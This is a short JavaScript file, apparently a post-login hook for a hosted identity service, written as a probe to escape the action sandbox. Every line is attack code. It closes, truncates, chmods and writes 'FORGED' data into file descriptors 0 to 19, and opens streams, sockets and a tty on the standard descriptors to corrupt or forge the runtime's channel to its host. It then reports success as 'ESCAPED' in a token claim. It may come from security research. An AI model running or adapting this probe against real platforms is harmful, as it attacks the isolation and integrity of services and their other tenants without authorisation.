// close, truncate and write the descriptors of the channel
exports.onExecutePostLogin = async (event, api) => {
  const S = event.secrets;
  const out = (v) => { try { api.idToken.setCustomClaim('probe', String(v).slice(0, 400)); } catch {} };
  const found = [];
  const attempt = async (label, act) => { try { const r = await act(); if (r) found.push(label + ' ' + String(r).slice(0, 80)); } catch {} };
  api.idToken.setCustomClaim('genuine', 1);
  const fs = require('fs');
  for (let fd = 0; fd < 20; fd++) for (const k of ['closeSync', 'fsyncSync', 'ftruncateSync', 'writeSync', 'writevSync', 'readSync', 'fstatSync', 'futimesSync', 'fchmodSync']) await attempt(k + fd, () => { fs[k](fd, 'FORGED\n'); return 'called'; });
  await attempt('stream', () => new Promise((done) => { const w = fs.createWriteStream('', { fd: 1 }); w.on('error', () => done()); w.write('FORGED', () => done('written')); }));
  const net = require('net');
  for (const fd of [0, 1, 2]) await attempt('socket ' + fd, () => { const s = new net.Socket({ fd }); s.on('error', () => {}); return new Promise((done) => { s.write('FORGED\n', (e) => done(e ? null : 'written')); setTimeout(done, 100); }); });
  const tty = require('tty');
  await attempt('tty', () => new tty.WriteStream(1));
  api.accessToken.setCustomClaim('genuine2', 2);
  out(found.length > 0 ? 'ESCAPED:' + found.join('; ') : 'BLOCKED:nothing worked');
};
